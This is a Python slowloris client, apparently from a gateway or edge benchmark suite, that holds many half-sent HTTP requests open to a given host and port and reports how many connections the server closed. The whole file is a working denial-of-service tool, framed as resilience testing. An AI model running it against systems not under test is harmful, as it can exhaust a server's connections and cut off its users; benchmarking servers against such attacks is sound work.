#!/usr/bin/env python3
"""A slowloris client for the edge benchmark: from source address SRC, keeps up to COUNT
connections open to HOST:PORT, each sending half a request head and then one byte every
second or so, opening at most RATE connections a second (as slowhttptest does; a client
that reconnects flat out is a connection flood, measured separately), for SECONDS. Prints a JSON line of what it
managed: connections opened, closed by the server, and the most held at once.

Usage: slowloris.py SRC HOST PORT COUNT SECONDS [RATE, default 1000]"""
import errno
import json
import resource
import selectors
import socket
import sys
import time

src, host, port, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
rate = float(sys.argv[6]) if len(sys.argv) > 6 else 1000.0
want = count + 256
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
if soft < want:
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, max(hard, want)))  # root may raise hard
    except (ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        count = min(count, hard - 256)

HEAD = b"POST /actions/restart-host HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n"
sel = selectors.DefaultSelector()
live = {}  # socket -> [time of its next send, whether the half head went]
opened = closed = failed = held_max = 0
started = time.monotonic()
deadline = started + seconds


def open_one():
    global opened, failed
    s = socket.socket()
    s.setblocking(False)
    try:
        s.bind((src, 0))
        s.connect_ex((host, port))
    except OSError:
        s.close()
        failed += 1
        return
    opened += 1
    live[s] = [time.monotonic() + 0.2, False]
    sel.register(s, selectors.EVENT_READ)


def drop(s):
    sel.unregister(s)
    live.pop(s, None)
    s.close()


while time.monotonic() < deadline:
    budget = int((time.monotonic() - started) * rate) - opened - failed
    for _ in range(max(0, min(count - len(live), budget))):
        open_one()
    for key, _ in sel.select(timeout=0.05):
        s = key.fileobj
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:  # closed (or reset) by the server
            closed += 1
            drop(s)
    now = time.monotonic()
    for s, state in list(live.items()):
        if state[0] <= now:
            try:
                s.send(b"X" if state[1] else HEAD)  # the half head, then a byte now and then
                live[s] = [now + 1.0, True]
            except OSError as e:
                if e.errno not in (errno.EAGAIN, errno.ENOTCONN):
                    closed += 1
                    drop(s)
    held_max = max(held_max, len(live))
for s in list(live):
    drop(s)
print(json.dumps({"src": src, "opened": opened, "closed_by_server": closed, "failed": failed,
                  "held_max": held_max}))
